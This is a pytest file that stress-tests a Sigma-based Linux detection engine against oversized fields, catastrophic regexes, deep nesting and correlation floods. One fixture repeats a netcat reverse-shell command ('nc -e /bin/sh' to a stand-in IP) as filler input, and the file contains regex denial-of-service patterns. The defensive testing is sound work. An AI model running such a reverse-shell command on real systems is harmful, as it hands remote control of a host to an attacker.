"""Rules and events made to take time and memory: each is refused with a sentence, or judged within bounds."""

import time
import tracemalloc
from pathlib import Path

import pytest
from support.rulebook import correlation, engine, event, good, rule, ruleset, run

from replguard.rules.history import LIMIT
from replguard.rules.index import Index
from replguard.rules.load import load
from replguard.rules.window import GROUPS

CORPUS = Path(__file__).resolve().parents[2].parent / "shared" / "corpora" / "sigma" / "rules" / "linux"
GIANT = 10 * 2**20
FLOOD = 9_000
"""More than any correlation keeps."""


def single(detection: str) -> str:
    """Return a rule on program starts with this detection."""
    head = "\ntitle: t\nname: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n"
    return head + detection


def seconds(step) -> float:
    """Return the CPU time of one call."""
    began = time.thread_time()
    step()
    return time.thread_time() - began


@pytest.fixture(scope="module")
def index():
    """Return the shipped rules, and SigmaHQ's for Linux where they are here."""
    return Index(load([CORPUS] if CORPUS.is_dir() else []).rules)


GIANTS = {
    "letters": "x" * GIANT,
    "blanks": " " * GIANT,
    "words": "sudo nc -e /bin/sh 10.0.0.1; " * (GIANT // 29),
    "unicode": "ſẞ\udcff文" * (GIANT // 4),
    "newlines": "\n" * GIANT,
}


@pytest.mark.parametrize("text", GIANTS.values(), ids=GIANTS)
def test_giant_fields_cost_little(index, text):
    """A field of 10 MB in each place that rules look at: half a second at the most, and no second copy of it."""
    parent = {"executable": text, "command_line": text}
    process = {"executable": text, "command_line": text, "working_directory": text, "parent": parent, "args": [text]}
    started = event(process=process, user__name=text)
    written = event(0, "file_create", file__path=text, process=process)
    index.matches(event())
    assert seconds(lambda: index.matches(started)) < 0.5
    assert seconds(lambda: index.matches(written)) < 0.5
    tracemalloc.start()
    index.matches(started)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 4 * 2**20
    assert index.failed == 0


def test_giant_values_are_not_remembered(index):
    """Thousands of long command lines, and of programs with many arguments, leave nothing behind."""
    tracemalloc.start()
    for number in range(200):
        index.matches(event(process={"command_line": f"{number} " + "x" * 50_000, "args": [""] * 50_000}))
    kept, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert kept < 2 * 2**20


def test_a_catastrophic_expression_is_judged_in_time(tmp_path):
    """Also on a short text, where each letter more would double the time."""
    index = Index(good(tmp_path, single("  s: {CommandLine|re: '^(\\w+\\s?)+$'}\n  condition: s\n")).rules)
    assert seconds(lambda: index.matches(run(0, "word " * 12 + "!"))) < 0.5
    assert index.matches(run(0, "only words"))


def test_an_expression_that_looks_back_is_refused(tmp_path):
    """What RE2 does not know never runs: a fault at its line, or a rule that is named as not evaluable."""
    found = ruleset(tmp_path, single("  s: {CommandLine|re: '(a+)+\\1'}\n  condition: s\n"))
    told = [problem.text for problem in found.problems] + [entry.reason for entry in found.not_evaluable]
    assert len(told) == 1
    assert "expression '(a+)+\\1'" in told[0]
    assert found.rules == []


def test_more_stages_than_sixteen_are_a_fault(tmp_path):
    """Told at their line."""
    names = ", ".join(["a", "b"] * 9)
    text = rule("a", "aa") + rule("b", "bb")
    text += correlation("seq", f"type: temporal_ordered, rules: [{names}], timespan: 1h", "join: [lineage]")
    (problem,) = ruleset(tmp_path, text).problems
    assert "18 stages; 16 is the most" in problem.text
    assert problem.line


@pytest.mark.parametrize(
    "condition", ["(" * 3000 + "s" + ")" * 3000, "not " * 3000 + "s", " or ".join(["s"] * 3000)], ids=["(", "not", "or"]
)
def test_deep_conditions_load_or_are_told(tmp_path, condition):
    """Nesting without end ends no load: the rule works, or is a fault with file and line."""
    found = ruleset(
        tmp_path, rule("other", "aa") + single(f"  s: {{CommandLine|contains: bb}}\n  condition: {condition}\n")
    )
    judge = Index(found.rules)
    assert [one.name for one in judge.matches(run(0, "aa"))] == ["other"]
    if found.problems:
        assert all(problem.line for problem in found.problems)
    else:
        assert [one.name for one in judge.matches(run(0, "bb"))] == ["t"]


def test_a_detection_that_nests_deeply_is_a_fault(tmp_path):
    """Lists in lists are told by their line."""
    found = ruleset(tmp_path, single(f"  s: {'[' * 500}{{CommandLine: x}}{']' * 500}\n  condition: s\n"))
    assert "nested deeper" in found.problems[0].text


def test_a_huge_list_costs_an_event_little(tmp_path):
    """Ten thousand texts to look for are one scan."""
    values = "".join(f"      - word{number}x\n" for number in range(10_000))
    index = Index(good(tmp_path, single(f"  s:\n    CommandLine|contains:\n{values}  condition: s\n")).rules)
    assert index.matches(run(0, "a word9999x"))
    assert seconds(lambda: [index.matches(run(0, f"nothing {number}")) for number in range(100)]) < 0.5


BODIES = {
    "count": "type: event_count, rules: a, timespan: 1h, group-by: [user.name], condition: {gte: 20000}",
    "few": "type: event_count, rules: a, timespan: 1h, group-by: [user.name], condition: {lt: 3}",
    "values": "type: value_count, rules: a, timespan: 1h, group-by: [user.name], condition: {gte: 9, field: LogonId}",
    "together": "type: temporal, rules: [a, b], timespan: 1h, group-by: [user.name]",
    "ordered": "type: temporal_ordered, rules: [a, b], timespan: 1h, group-by: [user.name]",
}


@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
def test_groups_without_end_are_bounded_and_counted(tmp_path, body):
    """An event for each of thousands of users: no more is kept than the bound, what was evicted is counted, in time."""
    judge = engine(tmp_path, rule("a", "aa") + rule("b", "bb") + correlation("found", body))
    flood = [run(number / 100, "aa", user__name=f"user{number}", user__audit=number) for number in range(FLOOD)]
    assert seconds(lambda: [judge.feed(one) for one in flood]) < 4
    counters = judge.counters
    assert counters.partials <= max(LIMIT, GROUPS)
    assert counters.partials + counters.evicted >= FLOOD
    assert counters.evicted > 0


@pytest.mark.parametrize(
    "kind", ["value_sum", "value_count", "value_median", "event_count"], ids=["sum", "count", "median", "events"]
)
def test_late_events_before_thousands_are_judged_in_time(tmp_path, kind):
    """Each moves the window over all that came after it."""
    field = "" if kind == "event_count" else ", field: LogonId"
    most = 9_000_000_000 if kind in ("value_sum", "value_median") else 20_000
    body = f"type: {kind}, rules: a, timespan: 1h, group-by: [user.name], condition: {{gte: {most}{field}}}"
    judge = engine(tmp_path, rule("a", "aa") + correlation("found", body))
    for number in range(3_000):
        judge.feed(run(100 + number / 100, "aa", user__name="eve", user__audit=number))
    late = [run(100 - number, "aa", user__name="eve", user__audit=number) for number in range(20)]
    assert seconds(lambda: [judge.feed(one) for one in late]) < 3
    assert judge.counters.late == 0
